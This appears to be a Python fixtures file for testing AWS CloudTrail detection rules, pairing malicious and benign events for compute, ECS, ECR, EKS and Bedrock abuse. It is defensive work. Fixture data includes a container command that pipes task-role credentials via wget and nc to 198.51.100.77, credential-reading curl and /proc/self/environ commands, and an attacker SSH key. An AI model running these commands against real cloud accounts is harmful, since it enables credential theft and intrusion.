from ct import *

EC2 = 'ec2.amazonaws.com'

def fixtures():
    F = {}
    at('2026-11-18T13:20:45Z')
    atk = user('dev-jsmith', key='AKIAXC2JH7NQR4D7WZ3M')
    adm = user('ops-admin', key='AKIAXC2JH7NQB6PS2XJ9')
    tfr = role('terraform-apply', 'tf-1763460131', key='ASIAXC2JH7NQF3K9D2LM')
    iid = 'i-0a7c3e9f1b2d4c6e8'
    def mia(rp, who=atk, err=None):
        return ev(EC2, 'ModifyInstanceAttribute', dict({"instanceId": iid}, **rp), None if err else {"requestId": rid(), "_return": True}, who=who, err=err)
    def items(*ids):
        return {"instancesSet": {"items": [{"instanceId": i} for i in ids]}}
    F['CT-CMP-001'] = (
        [mia({"userData": "<sensitiveDataRemoved>"}), mia({"attribute": "userData", "value": "<sensitiveDataRemoved>"})],
        [mia({"instanceType": {"value": "t3.large"}}, who=adm), mia({"userData": "<sensitiveDataRemoved>"}, err='Client.IncorrectInstanceState'),
         ev(EC2, 'DescribeInstanceAttribute', {"instanceId": iid, "attribute": "userData"}, None, who=atk, ro=True)])
    F['CT-CMP-002'] = (
        [ev(EC2, 'StopInstances', dict(items(iid), force=False), None, who=atk), mia({"userData": "<sensitiveDataRemoved>"}),
         ev(EC2, 'StartInstances', items(iid), None, who=atk)],
        [ev(EC2, 'StopInstances', dict(items(iid), force=False), None, who=adm), ev(EC2, 'StartInstances', items(iid), None, who=adm),
         mia({"userData": "<sensitiveDataRemoved>"}, who=adm)])
    role_ = role('dev-readonly', 'aws-go-sdk-1763472045', key='ASIAXC2JH7NQT6B3YHAZ')
    iids = ['i-0%015x' % (0x3f1a2b3c4d5e6f7 + n * 7919) for n in range(12)]
    F['CT-CMP-003'] = (
        [ev(EC2, 'DescribeInstanceAttribute', {"instanceId": i, "attribute": "userData"}, None, who=role_, ro=True, ip='198.51.100.77',
            err='Client.UnauthorizedOperation' if n % 3 else None, msg='You are not authorized to perform this operation.' if n % 3 else None) for n, i in enumerate(iids)],
        [ev(EC2, 'DescribeInstanceAttribute', {"instanceId": iid, "attribute": "userData"}, None, who=adm, ro=True),
         ev(EC2, 'DescribeInstanceAttribute', {"instanceId": iid, "attribute": "instanceType"}, None, who=adm, ro=True)])
    F['CT-CMP-004'] = (
        [ev(EC2, 'GetPasswordData', {"instanceId": i}, None, who=role_, ro=True, ip='198.51.100.77', err='Client.UnauthorizedOperation',
            msg='You are not authorized to perform this operation.') for i in iids],
        [ev(EC2, 'GetPasswordData', {"instanceId": iid}, {"instanceId": iid, "timestamp": 1763472045000, "passwordData": "HIDDEN_DUE_TO_SECURITY_REASONS"}, who=adm, ro=True)])
    SSM = 'ssm.amazonaws.com'
    def sc(ids=None, targets=None, who=atk, err=None, doc='AWS-RunShellScript'):
        rp = {"documentName": doc, "interactive": False, "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS"}
        if ids: rp["instanceIds"] = ids
        if targets: rp["targets"] = targets
        re = None if err else {"command": {"commandId": rid(), "documentName": doc, "documentVersion": "$DEFAULT", "instanceIds": ids or [],
               "targets": targets or [], "status": "Pending", "targetCount": len(ids or []), "maxConcurrency": "50", "maxErrors": "0"}}
        return ev(SSM, 'SendCommand', rp, re, who=who, err=err)
    F['CT-CMP-005'] = (
        [sc([iid])],
        [sc(iids[:3]), sc(targets=[{"key": "tag:Role", "values": ["web"]}]), sc([iid], err='AccessDeniedException'),
         ev(SSM, 'GetCommandInvocation', {"commandId": rid(), "instanceId": iid}, None, who=atk, ro=True)])
    F['CT-CMP-006'] = (
        [sc(iids[:3]), sc(targets=[{"key": "InstanceIds", "values": ["*"]}])],
        [sc([iid]), sc(iids[:3], err='AccessDeniedException')])
    def ss(t, who=atk, err=None):
        return ev(SSM, 'StartSession', {"target": t}, None if err else {"sessionId": f"{who.get('userName', 'x')}-0{rid()[:16].replace('-', '')}",
                  "tokenValue": "Value hidden due to security reasons.", "streamUrl": f"wss://ssmmessages.{REGION}.amazonaws.com/v1/data-channel/x"}, who=who, err=err)
    F['CT-CMP-007'] = (
        [ss(iid)],
        [ss(iid, err='AccessDeniedException'), ev(SSM, 'TerminateSession', {"sessionId": "dev-jsmith-0a1b2c3d4e5f6a7b8"}, None, who=atk)])
    F['CT-CMP-008'] = (
        [ss(i) for i in iids[:3]],
        [ss(iid), ss(iid)])
    EIC = 'ec2-instance-connect.amazonaws.com'
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG8m2vQ0r6dTqkXb3v7oW1nZ4pJ5sY9cL2eH6fK0aB1C attacker@kali"
    F['CT-CMP-009'] = (
        [ev(EIC, 'SendSSHPublicKey', {"instanceId": iid, "instanceOSUser": "ec2-user", "sSHPublicKey": key}, {"requestId": rid(), "success": True}, who=atk, ip='198.51.100.77')],
        [ev(EIC, 'SendSSHPublicKey', {"instanceId": iid, "instanceOSUser": "ec2-user", "sSHPublicKey": key}, None, who=atk, err='AccessDenied'),
         ev(EIC, 'SendSerialConsoleSSHPublicKey', {"instanceId": iid, "serialPort": 0, "sSHPublicKey": key}, {"success": True}, who=atk)])
    F['CT-CMP-010'] = (
        [ev(EC2, 'EnableSerialConsoleAccess', {"EnableSerialConsoleAccessRequest": ""}, {"EnableSerialConsoleAccessResponse": {"xmlns": "http://ec2.amazonaws.com/doc/2016-11-15/", "requestId": rid(), "serialConsoleAccessEnabled": True}}, who=atk),
         ev(EIC, 'SendSerialConsoleSSHPublicKey', {"instanceId": iid, "serialPort": 0, "monitorMode": False, "sSHPublicKey": key}, {"requestId": rid(), "success": True}, who=atk)],
        [ev(EC2, 'DisableSerialConsoleAccess', {"DisableSerialConsoleAccessRequest": ""}, None, who=adm),
         ev(EIC, 'SendSSHPublicKey', {"instanceId": iid, "instanceOSUser": "ec2-user", "sSHPublicKey": key}, {"success": True}, who=atk)])
    def ri(t, who=atk, err=None, region=None, n=1):
        rp = {"instancesSet": {"items": [{"imageId": "ami-0e2c8caa4b6378d8c", "minCount": 1, "maxCount": n}]}, "instanceType": t,
              "blockDeviceMapping": {}, "monitoring": {"enabled": False}, "disableApiTermination": False, "disableApiStop": False,
              "clientToken": rid(), "subnetId": "subnet-0b7e4c2a91f3d5e60"}
        re = None if err else {"requestId": rid(), "reservationId": "r-0%016x" % 0x5a6b7c8d9e0f1a2, "ownerId": ACCT, "groupSet": {},
                                "instancesSet": {"items": [{"instanceId": "i-0%016x" % 0x9e8d7c6b5a4f3e2, "imageId": "ami-0e2c8caa4b6378d8c", "instanceType": t,
                                "instanceState": {"code": 0, "name": "pending"}}]}}
        return ev(EC2, 'RunInstances', rp, re, who=who, err=err, region=region,
                  msg='You have requested more vCPU capacity than your current vCPU limit of 32 allows for the instance bucket that the specified instance type belongs to.' if err == 'VcpuLimitExceeded' else None)
    F['CT-CMP-011'] = (
        [ri('p4d.24xlarge', n=8, region='ap-southeast-3'), ri('g5.12xlarge', err='VcpuLimitExceeded'), ri('t3.micro', err='Client.UnauthorizedOperation'),
         ri('c6i.32xlarge')],
        [ri('t3.micro', who=tfr), ri('m6i.large', who=tfr), ri('c6i.4xlarge', who=tfr), ri('t3.micro', err='InvalidParameterValue')])
    LAM = 'lambda.amazonaws.com'
    fn = f'arn:aws:lambda:{REGION}:{ACCT}:function:thumbnailer'
    F['CT-CMP-012'] = (
        [ev(LAM, 'UpdateFunctionCode20150331v2', {"functionName": fn, "publish": True, "dryRun": False},
            {"functionName": "thumbnailer", "functionArn": fn, "codeSha256": "q8n3Q5E2v9sX0d7pL4zR1cT6wY2bK8jH3fM5gN0aV1U=", "codeSize": 1894, "runtime": "python3.12",
             "lastUpdateStatus": "InProgress"}, who=atk)],
        [ev(LAM, 'UpdateFunctionCode20150331v2', {"functionName": fn}, None, who=atk, err='AccessDeniedException'),
         ev(LAM, 'GetFunction20150331v2', {"functionName": "thumbnailer"}, None, who=adm, ro=True)])
    F['CT-CMP-013'] = (
        [ev(LAM, 'UpdateFunctionConfiguration20150331v2', {"functionName": fn, "layers": [f"arn:aws:lambda:{REGION}:{EXT}:layer:telemetry-ext:3"]}, None, who=atk)],
        [ev(LAM, 'UpdateFunctionConfiguration20150331v2', {"functionName": fn, "timeout": 30, "memorySize": 512}, None, who=adm),
         ev(LAM, 'UpdateFunctionConfiguration20150331v2', {"functionName": fn, "layers": []}, None, who=atk, err='AccessDeniedException')])
    F['CT-CMP-014'] = (
        [ev(LAM, 'AddPermission20150331v2', {"functionName": "thumbnailer", "statementId": "public-invoke", "action": "lambda:InvokeFunction", "principal": "*"},
            {"statement": '{"Sid":"public-invoke","Effect":"Allow","Principal":"*","Action":"lambda:InvokeFunction","Resource":"' + fn + '"}'}, who=atk),
         ev(LAM, 'CreateFunctionUrlConfig20211031', {"functionName": "thumbnailer", "authType": "NONE"},
            {"functionUrl": "https://q4x2y7k3m8n1p5r9s0t6u2v4w.lambda-url.us-east-1.on.aws/", "functionArn": fn, "authType": "NONE"}, who=atk)],
        [ev(LAM, 'AddPermission20150331v2', {"functionName": "thumbnailer", "statementId": "s3-invoke", "action": "lambda:InvokeFunction",
            "principal": "s3.amazonaws.com", "sourceArn": "arn:aws:s3:::media-uploads-prod", "sourceAccount": ACCT}, None, who=tfr),
         ev(LAM, 'CreateFunctionUrlConfig20211031', {"functionName": "thumbnailer", "authType": "AWS_IAM"}, None, who=tfr)])
    SM = 'sagemaker.amazonaws.com'
    F['CT-CMP-015'] = (
        [ev(SM, 'CreateNotebookInstanceLifecycleConfig', {"notebookInstanceLifecycleConfigName": "fix-deps", "onStart": [{"content": "HIDDEN_DUE_TO_SECURITY_REASONS"}]}, None, who=atk),
         ev(SM, 'UpdateNotebookInstance', {"notebookInstanceName": "ds-team", "lifecycleConfigName": "fix-deps"}, None, who=atk)],
        [ev(SM, 'UpdateNotebookInstance', {"notebookInstanceName": "ds-team", "instanceType": "ml.t3.large"}, None, who=adm),
         ev(SM, 'StopNotebookInstance', {"notebookInstanceName": "ds-team"}, None, who=atk)])

    # ---- containers.rules ----
    ECS = 'ecs.amazonaws.com'
    cl = 'payments-prod'
    task = f'arn:aws:ecs:{REGION}:{ACCT}:task/{cl}/5c2f8e1a9b3d4e6f8a0b1c2d3e4f5a6b'
    def ex(cmd, inter=True, who=atk, err=None):
        return ev(ECS, 'ExecuteCommand', {"cluster": cl, "container": "api", "command": cmd, "interactive": inter, "task": task},
                  None if err else {"clusterArn": f"arn:aws:ecs:{REGION}:{ACCT}:cluster/{cl}", "containerArn": f"arn:aws:ecs:{REGION}:{ACCT}:container/{cl}/5c2f8e1a/0d1e2f3a",
                  "containerName": "api", "interactive": inter, "session": {"sessionId": f"ecs-execute-command-0{rid()[:17].replace('-', '')}",
                  "streamUrl": f"wss://ssmmessages.{REGION}.amazonaws.com/v1/data-channel/ecs-execute-command-x", "tokenValue": "HIDDEN_DUE_TO_SECURITY_REASONS"},
                  "taskArn": task}, who=who, err=err, ip='198.51.100.77')
    F['CT-ECS-001'] = (
        [ex('cat /proc/self/environ'), ex('python manage.py migrate --check')],
        [ex('/bin/sh'), ex('bash'), ex('ls', err='AccessDeniedException')])
    F['CT-ECS-002'] = (
        [ex('/bin/sh'), ex('bash'), ex('/bin/bash -il')],
        [ex('cat /etc/passwd'), ex('/bin/sh', err='TargetNotConnectedException'), ex('/bin/sh', inter=False)])
    F['CT-ECS-003'] = (
        [ev(ECS, 'UpdateService', {"cluster": cl, "service": "api", "enableExecuteCommand": True, "forceNewDeployment": True}, None, who=atk)],
        [ev(ECS, 'UpdateService', {"cluster": cl, "service": "api", "desiredCount": 4}, None, who=tfr),
         ev(ECS, 'UpdateService', {"cluster": cl, "service": "api", "enableExecuteCommand": False}, None, who=adm)])
    F['CT-ECS-004'] = (
        [ev(ECS, 'RunTask', {"cluster": cl, "taskDefinition": "db-migrate:14", "count": 1, "launchType": "FARGATE",
            "networkConfiguration": {"awsvpcConfiguration": {"subnets": ["subnet-0b7e4c2a91f3d5e60"], "assignPublicIp": "DISABLED"}}}, {"tasks": [{"taskArn": task}], "failures": []}, who=tfr)],
        [ev(ECS, 'DescribeTasks', {"cluster": cl, "tasks": [task]}, None, who=adm, ro=True),
         ev(ECS, 'RunTask', {"cluster": cl, "taskDefinition": "db-migrate:14"}, None, who=atk, err='AccessDeniedException')])
    F['CT-ECS-005'] = (
        [ev(ECS, 'RegisterTaskDefinition', {"family": "debug", "networkMode": "awsvpc", "requiresCompatibilities": ["FARGATE"], "cpu": "256", "memory": "512",
            "taskRoleArn": f"arn:aws:iam::{ACCT}:role/payments-task", "containerDefinitions": [{"name": "debug", "image": "public.ecr.aws/docker/library/alpine:3.20",
            "command": ["sh", "-c", "wget -qO- http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | nc 198.51.100.77 443"], "essential": True}]}, None, who=atk),
         ev(ECS, 'RunTask', {"cluster": cl, "taskDefinition": "api:88", "overrides": {"containerOverrides": [{"name": "api",
            "command": ["sh", "-c", "curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]}]}}, None, who=atk)],
        [ev(ECS, 'RegisterTaskDefinition', {"family": "api", "containerDefinitions": [{"name": "api", "image": f"{ACCT}.dkr.ecr.{REGION}.amazonaws.com/payments-api:2.14.1",
            "command": ["gunicorn", "app:app"], "essential": True}]}, None, who=tfr)])
    ECR = 'ecr.amazonaws.com'
    def pi(tag, digest, who=atk, err=None):
        return ev(ECR, 'PutImage', {"repositoryName": "payments-api", "imageTag": tag, "registryId": ACCT,
                  "imageManifest": "{\n   \"schemaVersion\": 2,\n   \"mediaType\": \"application/vnd.docker.distribution.manifest.v2+json\",\n   \"config\": {\n      \"mediaType\": \"application/vnd.docker.container.image.v1+json\",\n      \"size\": 7023,\n      \"digest\": \"sha256:" + digest[::-1] + "\"\n   }\n}"},
                  None if err else {"image": {"registryId": ACCT, "repositoryName": "payments-api", "imageId": {"imageDigest": "sha256:" + digest, "imageTag": tag},
                  "imageManifestMediaType": "application/vnd.docker.distribution.manifest.v2+json"}}, who=who, err=err,
                  ua='docker/27.3.1 go/go1.22.7 git-commit/41ca978 kernel/6.8.0-48-generic os/linux arch/amd64 UpstreamClient(Docker-Client/27.3.1 \\(linux\\))',
                  msg=None if not err else f"The image tag '{tag}' already exists in the 'payments-api' repository and cannot be overwritten because the repository is immutable.")
    d1 = '5f8e2c1a9b3d7e6f0a4b8c2d6e1f3a5b7c9d0e2f4a6b8c1d3e5f7a9b0c2d4e6f'
    d2 = '9a1b3c5d7e9f1a3b5c7d9e1f3a5b7c9d1e3f5a7b9c1d3e5f7a9b1c3d5e7f9a1b'
    F['CT-ECR-001'] = (
        [pi('2.14.1', d1, who=tfr), pi('2.14.1', d2, who=atk)],
        [pi('2.14.1', d1, who=tfr), pi('2.14.2', d2, who=tfr), pi('2.14.2', d2, who=tfr)])
    F['CT-ECR-002'] = (
        [pi('2.14.1', d2, err='ImageTagAlreadyExistsException')],
        [pi('2.14.1', d1, who=tfr), pi('2.14.3', d1, err='LayersNotFoundException')])
    F['CT-ECR-003'] = (
        [ev(ECR, 'PutImageTagMutability', {"repositoryName": "payments-api", "imageTagMutability": "MUTABLE"}, {"registryId": ACCT, "repositoryName": "payments-api", "imageTagMutability": "MUTABLE"}, who=atk)],
        [ev(ECR, 'PutImageTagMutability', {"repositoryName": "payments-api", "imageTagMutability": "IMMUTABLE"}, None, who=adm)])

    # ---- eks.rules ----
    EKS = 'eks.amazonaws.com'
    c = 'prod-eu'
    def ucc(rp, who=atk, err=None):
        return ev(EKS, 'UpdateClusterConfig', dict({"name": c, "clientRequestToken": rid()}, **rp), None if err else {"update": {"id": rid(), "status": "InProgress", "type": "LoggingUpdate" if "logging" in rp else "EndpointAccessUpdate",
                  "params": [], "createdAt": 1763472045.0, "errors": []}}, who=who, err=err)
    F['CT-EKS-001'] = (
        [ucc({"logging": {"clusterLogging": [{"types": ["api", "audit", "authenticator"], "enabled": False}]}}),
         ucc({"logging": {"clusterLogging": [{"types": ["controllerManager", "scheduler"], "enabled": True}, {"types": ["audit"], "enabled": False}]}})],
        [ucc({"logging": {"clusterLogging": [{"types": ["api", "audit", "authenticator", "controllerManager", "scheduler"], "enabled": True}]}}, who=tfr),
         ucc({"logging": {"clusterLogging": [{"types": ["audit"], "enabled": False}]}}, err='AccessDeniedException')])
    F['CT-EKS-002'] = (
        [ucc({"resourcesVpcConfig": {"endpointPublicAccess": True, "endpointPrivateAccess": True, "publicAccessCidrs": ["0.0.0.0/0"]}}),
         ucc({"resourcesVpcConfig": {"endpointPublicAccess": True, "endpointPrivateAccess": False}})],
        [ucc({"resourcesVpcConfig": {"endpointPublicAccess": True, "publicAccessCidrs": ["203.0.113.0/24"]}}, who=tfr),
         ucc({"resourcesVpcConfig": {"endpointPublicAccess": False, "endpointPrivateAccess": True}}, who=tfr)])
    pa = f"arn:aws:iam::{ACCT}:user/backup-svc"
    def aap(pol, scope='cluster', err=None, who=atk):
        return ev(EKS, 'AssociateAccessPolicy', {"name": c, "principalArn": pa, "policyArn": f"arn:aws:eks::aws:cluster-access-policy/{pol}",
                  "accessScope": {"type": scope} if scope == 'cluster' else {"type": "namespace", "namespaces": ["payments"]}},
                  None if err else {"clusterName": c, "principalArn": pa, "associatedAccessPolicy": {"policyArn": f"arn:aws:eks::aws:cluster-access-policy/{pol}",
                  "accessScope": {"type": scope, "namespaces": []}, "associatedAt": 1763472045.0, "modifiedAt": 1763472045.0}}, who=who, err=err)
    F['CT-EKS-003'] = (
        [aap('AmazonEKSClusterAdminPolicy'), aap('AmazonEKSAdminPolicy', scope='namespace')],
        [aap('AmazonEKSViewPolicy', who=tfr), aap('AmazonEKSClusterAdminPolicy', err='AccessDeniedException')])
    def cae(verb='CreateAccessEntry', who=atk, err=None, groups=None):
        rp = {"name": c, "principalArn": pa, "type": "STANDARD"}
        if groups: rp["kubernetesGroups"] = groups
        if verb == 'DeleteAccessEntry': rp = {"name": c, "principalArn": pa}
        return ev(EKS, verb, rp, None, who=who, err=err)
    F['CT-EKS-004'] = (
        [cae(), cae(groups=['platform-ops'])],
        [cae(err='ResourceInUseException'), cae('DeleteAccessEntry'), ev(EKS, 'ListAccessEntries', {"name": c}, None, who=adm, ro=True)])
    F['CT-EKS-005'] = (
        [cae(), aap('AmazonEKSClusterAdminPolicy'), cae('DeleteAccessEntry')],
        [cae(who=tfr)])
    F['CT-EKS-006'] = (
        [ev(EKS, 'DescribeCluster', {"name": c}, None, who=atk, ro=True, ip='198.51.100.77', ua=CLI.format(cmd='eks.update-kubeconfig'))],
        [ev(EKS, 'DescribeCluster', {"name": 'does-not-exist'}, None, who=atk, ro=True, err='ResourceNotFoundException'),
         ev(EKS, 'ListClusters', {}, None, who=atk, ro=True)])
    F['CT-EKS-007'] = (
        [ev(EKS, 'DeleteCluster', {"name": "staging-us"}, None, who=atk), ev(EKS, 'CreateCluster', {"name": "gpu-batch", "version": "1.31",
            "roleArn": f"arn:aws:iam::{ACCT}:role/eks-cluster", "resourcesVpcConfig": {"subnetIds": ["subnet-0b7e4c2a91f3d5e60"]}}, None, who=tfr)],
        [ev(EKS, 'DeleteCluster', {"name": "prod-eu"}, None, who=atk, err='AccessDeniedException')])
    return F

def _bedrock():
    BR = 'bedrock.amazonaws.com'
    at('2026-11-18T21:04:10Z')
    who = role('lambda-image-resizer', 'resizer', key='ASIAXC2JH7NQ7UGB2KWE')
    adm = role('AWSReservedSSO_MLPlatformAdmin_2c4e6a8b0d1f3a5c', 'ml-lead@example.com', key='ASIAXC2JH7NQP9TZ4DRC')
    m = "anthropic.claude-3-5-sonnet-20241022-v2:0"
    return {'CT-CMP-016': (
        [ev(BR, 'PutUseCaseForModelAccess', None, None, who=who, ip='198.51.100.77', ua=BOTO),
         ev(BR, 'CreateFoundationModelAgreement', {"modelId": m, "offerToken": "HIDDEN_DUE_TO_SECURITY_REASONS"}, {"modelId": m}, who=who, ip='198.51.100.77', ua=BOTO),
         ev(BR, 'PutFoundationModelEntitlement', {"modelId": m}, {"status": "SUCCESS"}, who=who, ip='198.51.100.77', ua=BOTO)],
        [ev(BR, 'GetFoundationModelAvailability', {"modelId": m}, None, who=who, ro=True, ua=BOTO),
         ev(BR, 'ListFoundationModelAgreementOffers', {"modelId": m}, None, who=adm, ro=True, ua=CONSOLE),
         ev(BR, 'PutFoundationModelEntitlement', {"modelId": m}, None, who=who, err='AccessDeniedException', ua=BOTO),
         ev('bedrock.amazonaws.com', 'InvokeModel', {"modelId": m}, None, who=adm, ro=True, ua=BOTO)])}

_orig = fixtures
def fixtures():
    F = _orig()
    F.update(_bedrock())
    return F

# Issue 13, appended so that the records above keep their generated ids:
# a layer set with UpdateFunctionConfiguration can show only in
# responseElements (the function's configuration as the call left it).
def _layers(F):
    at('2026-11-18T21:30:00Z')
    atk = user('dev-jsmith', key='AKIAXC2JH7NQR4D7WZ3M')
    fn = f'arn:aws:lambda:{REGION}:{ACCT}:function:thumbnailer'
    conf = {"functionName": "thumbnailer", "functionArn": fn, "runtime": "python3.12", "role": f"arn:aws:iam::{ACCT}:role/thumbnailer-exec",
            "handler": "app.handler", "codeSize": 1894, "timeout": 30, "memorySize": 512, "lastUpdateStatus": "InProgress"}
    F['CT-CMP-013'][0].append(ev('lambda.amazonaws.com', 'UpdateFunctionConfiguration20150331v2', {"functionName": "thumbnailer"},
                                 dict(conf, layers=[{"arn": f"arn:aws:lambda:{REGION}:{EXT}:layer:telemetry-ext:3", "codeSize": 5221}]),
                                 who=atk, ip='198.51.100.77'))
    # a timeout change, on a function without layers and on one that has them
    F['CT-CMP-013'][1].extend([
        ev('lambda.amazonaws.com', 'UpdateFunctionConfiguration20150331v2', {"functionName": "thumbnailer", "timeout": 30}, conf, who=atk),
        ev('lambda.amazonaws.com', 'UpdateFunctionConfiguration20150331v2', {"functionName": "thumbnailer", "timeout": 60},
           dict(conf, timeout=60, layers=[{"arn": f"arn:aws:lambda:{REGION}:{ACCT}:layer:pillow:7", "codeSize": 3912044}]), who=atk)])
    return F

_orig_compute = fixtures
def fixtures():
    return _layers(_orig_compute())
